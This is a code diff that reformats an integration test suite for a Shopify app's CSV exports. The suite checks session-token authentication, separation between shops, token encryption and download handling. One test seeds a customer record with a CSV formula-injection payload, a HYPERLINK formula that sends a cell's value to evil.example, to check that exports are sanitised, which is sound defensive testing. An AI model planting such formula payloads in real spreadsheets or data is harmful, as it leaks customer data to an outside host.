@@ -16,7 +16,8 @@ import { seedShop } from "../pages/support/seed-shop";
 const A = "export-a.myshopify.com";
 const B = "export-b.myshopify.com";
 const NOW = new Date("2026-11-20T15:00:00Z");
-const BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36";
+const BROWSER =
+  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36";
 
 describe("CSV exports with a Shopify session token", () => {
   let database: TestDatabase;
@@ -26,13 +27,39 @@ describe("CSV exports with a Shopify session token", () => {
   beforeAll(async () => {
     database = await createTestDatabase();
     fake = await startFakeAdminApi({ shops: [], app: { apiKey: TEST_API_KEY, secret: TEST_API_SECRET } });
-    for (const [domain, token] of [[A, "shpat_export_a"], [B, "shpat_export_b"]] as const) {
-      const store = new FakeShopStore({ domain, name: domain, currencyCode: "USD", ianaTimezone: "UTC", taxesIncluded: false });
+    for (const [domain, token] of [
+      [A, "shpat_export_a"],
+      [B, "shpat_export_b"],
+    ] as const) {
+      const store = new FakeShopStore({
+        domain,
+        name: domain,
+        currencyCode: "USD",
+        ianaTimezone: "UTC",
+        taxesIncluded: false,
+      });
       fake.addShop({ store, accessToken: token, scopes: ["read_orders", "read_customers"] });
     }
-    await seedShop(database.prisma, { domain: A, customers: 60, days: 200, now: NOW, seed: 1, idBase: 1_000_000 });
-    await seedShop(database.prisma, { domain: B, customers: 80, days: 200, now: NOW, seed: 2, idBase: 2_000_000 });
-    web = await startTestWebApp({ databaseUrl: database.url, extra: { SHOPIFY_ADMIN_API_ORIGIN: fake.origin, DEMO_MODE: "false" } });
+    await seedShop(database.prisma, {
+      domain: A,
+      customers: 60,
+      days: 200,
+      now: NOW,
+      seed: 1,
+      idBase: 1_000_000,
+    });
+    await seedShop(database.prisma, {
+      domain: B,
+      customers: 80,
+      days: 200,
+      now: NOW,
+      seed: 2,
+      idBase: 2_000_000,
+    });
+    web = await startTestWebApp({
+      databaseUrl: database.url,
+      extra: { SHOPIFY_ADMIN_API_ORIGIN: fake.origin, DEMO_MODE: "false" },
+    });
   }, 180_000);
   afterAll(async () => {
     await web?.close();
@@ -41,7 +68,10 @@ describe("CSV exports with a Shopify session token", () => {
   });
 
   const exportWith = (path: string, token: string | null) =>
-    fetch(`${web.url}${path}`, { headers: { "User-Agent": BROWSER, ...(token ? { Authorization: `Bearer ${token}` } : {}) }, redirect: "manual" });
+    fetch(`${web.url}${path}`, {
+      headers: { "User-Agent": BROWSER, ...(token ? { Authorization: `Bearer ${token}` } : {}) },
+      redirect: "manual",
+    });
   const tokenFor = (shop: string, extra: Partial<Parameters<typeof signSessionToken>[0]> = {}) =>
     signSessionToken({ shop, apiKey: TEST_API_KEY, secret: TEST_API_SECRET, ...extra });
 
@@ -58,10 +88,14 @@ describe("CSV exports with a Shopify session token", () => {
     const csvB = await b.text();
     expect(csvB).not.toBe(csvA);
     // The shop comes from the token alone: a shop parameter naming B changes nothing.
-    expect(await (await exportWith(`/app/kpi/aov/csv?range=last-90-days&shop=${B}`, tokenFor(A))).text()).toBe(csvA);
+    expect(
+      await (await exportWith(`/app/kpi/aov/csv?range=last-90-days&shop=${B}`, tokenFor(A))).text(),
+    ).toBe(csvA);
 
     // Token exchange ran once per shop, against Shopify's endpoint, and its token is stored encrypted.
-    expect(fake.requests.filter((r) => r.path === "/admin/oauth/access_token" && r.status === 200)).toHaveLength(2);
+    expect(
+      fake.requests.filter((r) => r.path === "/admin/oauth/access_token" && r.status === 200),
+    ).toHaveLength(2);
     const session = await database.prisma.session.findUniqueOrThrow({ where: { id: `offline_${A}` } });
     expect(session.accessToken).not.toContain("shpat_export_a");
   });
@@ -69,13 +103,24 @@ describe("CSV exports with a Shopify session token", () => {
   it("the admin's export helper fetches with App Bridge's session token and saves the CSV", async () => {
     const saved: { href: string; download: string; clicked: boolean }[] = [];
     const link = () => {
-      const element = { href: "", download: "", style: {}, clicked: false, click: () => void (element.clicked = true), remove: () => undefined };
+      const element = {
+        href: "",
+        download: "",
+        style: {},
+        clicked: false,
+        click: () => void (element.clicked = true),
+        remove: () => undefined,
+      };
       saved.push(element);
       return element;
     };
     const nodeFetch = globalThis.fetch;
     // What a browser adds on its own: its user agent (authenticate.admin answers bots with 410).
-    const browserFetch: typeof fetch = (input, init) => nodeFetch(input, { ...init, headers: { ...(init?.headers as Record<string, string>), "User-Agent": BROWSER } });
+    const browserFetch: typeof fetch = (input, init) =>
+      nodeFetch(input, {
+        ...init,
+        headers: { ...(init?.headers as Record<string, string>), "User-Agent": BROWSER },
+      });
     Object.assign(globalThis, {
       fetch: browserFetch,
       shopify: { idToken: async () => tokenFor(A) },
@@ -91,8 +136,12 @@ describe("CSV exports with a Shopify session token", () => {
       expect(await blob!.text()).toBe(expected);
 
       // A refused token becomes a message for the merchant, and nothing is saved.
-      Object.assign(globalThis, { shopify: { idToken: async () => tokenFor(A, { secret: "not-the-app-secret" }) } });
-      await expect(downloadFile(`${web.url}/app/kpi/aov/csv`, "aov.csv")).rejects.toThrow("Your session has expired. Reload the page, then try the download again.");
+      Object.assign(globalThis, {
+        shopify: { idToken: async () => tokenFor(A, { secret: "not-the-app-secret" }) },
+      });
+      await expect(downloadFile(`${web.url}/app/kpi/aov/csv`, "aov.csv")).rejects.toThrow(
+        "Your session has expired. Reload the page, then try the download again.",
+      );
       expect(saved).toHaveLength(1);
     } finally {
       globalThis.fetch = nodeFetch;
@@ -113,9 +162,30 @@ describe("CSV exports with a Shopify session token", () => {
     const shop = await database.prisma.shop.findUniqueOrThrow({ where: { domain: A } });
     const hostile = '-1+HYPERLINK("http://evil.example/?d="&B2,"Refund")';
     const at = new Date("2026-01-02T00:00:00Z");
-    await database.prisma.customer.create({ data: { shopId: shop.id, id: 9_999_001n, email: "=cmd@evil.example", firstName: hostile, lastName: null, shopifyCreated: at, shopifyUpdated: at } });
+    await database.prisma.customer.create({
+      data: {
+        shopId: shop.id,
+        id: 9_999_001n,
+        email: "=cmd@evil.example",
+        firstName: hostile,
+        lastName: null,
+        shopifyCreated: at,
+        shopifyUpdated: at,
+      },
+    });
     await database.prisma.clvPrediction.create({
-      data: { shopId: shop.id, customerKey: "c:9999001", frequency: 2, recencyDays: 30, ageDays: 90, pAlive: 0.9, expectedOrders: 1.5, expectedOrderValue: 4000, predictedClv: 6000, churnRisk: "low" },
+      data: {
+        shopId: shop.id,
+        customerKey: "c:9999001",
+        frequency: 2,
+        recencyDays: 30,
+        ageDays: 90,
+        pAlive: 0.9,
+        expectedOrders: 1.5,
+        expectedOrderValue: 4000,
+        predictedClv: 6000,
+        churnRisk: "low",
+      },
     });
     const csv = await (await exportWith("/app/customers/csv", tokenFor(A))).text();
     const line = csv.split("\r\n").find((row) => row.includes("HYPERLINK"));
